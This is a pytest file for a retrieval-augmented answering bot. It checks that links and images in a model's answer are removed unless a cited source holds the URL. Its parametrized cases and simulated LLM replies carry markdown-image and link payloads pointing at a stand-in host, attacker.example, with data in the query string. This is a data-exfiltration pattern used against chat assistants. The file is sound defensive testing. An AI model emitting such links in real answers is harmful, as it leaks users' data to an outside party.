"""Links, images and URLs in an LLM answer survive only when a cited source holds the URL."""

from __future__ import annotations

import pytest
from fake_openai import FakeOpenAI, fake_openai, seed_answerer, with_llm

from bot.answering.citations import check_citations
from bot.answering.sanitize import remove_untrusted_links
from bot.answering.service import Answerer
from bot.settings import load_settings
from retrieval.documents import Chunk

__all__ = ["fake_openai", "seed_answerer"]  # fixtures, imported so pytest finds them

EVIL = "https://attacker.example/collect?d=300000"
QUESTION = "How many people did the Thai-Cambodian border dispute displace?"

SOURCE_TEXT = (
    "The accord capped months of talks. An estimated 300,000 people were displaced by the "
    "dispute. The full text is at https://docs.example.org/accord.pdf for anyone to read."
)


def source(text: str = SOURCE_TEXT) -> Chunk:
    return Chunk("c1", "accord.txt", "Accord", 0, 0, len(text), text)


@pytest.mark.parametrize(
    "attack",
    [
        f"![status]({EVIL})",
        f"[click here]({EVIL})",
        f"<{EVIL}>",
        EVIL,
        f'![x](<{EVIL}> "title")',
        "www.attacker.example/collect",
    ],
)
def test_an_untrusted_link_or_image_is_removed(attack: str) -> None:
    text, removed = remove_untrusted_links(f"About 300,000 people were displaced {attack}.", "")
    assert "attacker.example" not in text
    assert removed
    assert text.startswith("About 300,000 people were displaced")
    assert text.endswith(".")


def test_a_link_keeps_its_words_and_a_reference_definition_goes() -> None:
    text, _ = remove_untrusted_links(
        f"See [the report][r] or [this page]({EVIL}).\n[r]: {EVIL}\n", ""
    )
    assert text == "See [the report][r] or this page.\n"


def test_a_url_the_source_holds_verbatim_is_kept() -> None:
    answer = "The text is at https://docs.example.org/accord.pdf [1]."
    checked = check_citations(answer, [source()])
    assert not checked.abstained
    assert "https://docs.example.org/accord.pdf" in checked.text


def test_check_citations_strips_exfiltration_from_a_supported_sentence() -> None:
    answer = f"An estimated 300,000 people were displaced ![status]({EVIL}) [1]. [more]({EVIL})"
    checked = check_citations(answer, [source()])
    assert not checked.abstained
    assert "attacker" not in checked.text
    assert "300,000 people were displaced" in checked.text
    assert any("link not in the cited source" in reason for reason in checked.dropped)


def test_a_url_from_an_uncited_source_does_not_count() -> None:
    other = Chunk("c2", "other.txt", "Other", 0, 0, 40, f"Mirror at {EVIL} today.xx")
    answer = f"An estimated 300,000 people were displaced, see {EVIL} [1]."
    checked = check_citations(answer, [source(), other])
    assert "attacker" not in checked.text


@pytest.mark.slow
def test_exfiltration_through_the_real_client_never_reaches_the_user(
    seed_answerer: Answerer, fake_openai: FakeOpenAI, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_BASE_URL", fake_openai.base_url)
    answerer = with_llm(seed_answerer, load_settings(env_file=None))
    hits = seed_answerer.searcher.search(QUESTION)
    n = next(i for i, hit in enumerate(hits, start=1) if "300,000" in hit.chunk.text)
    reply = (
        f"The dispute displaced an estimated 300,000 people ![status]({EVIL}) [{n}]. "
        f"[Click here]({EVIL}) for more [{n}]."
    )
    fake_openai.reply(reply)
    fake_openai.reply(reply)

    answer = answerer.answer(QUESTION)
    pieces: list[str] = []
    streamed = answerer.answer(QUESTION, on_token=pieces.append)

    for text in (answer.text, streamed.text, "".join(pieces)):
        assert "attacker" not in text
        assert "300,000" in text
    assert answer.backend == "llm"
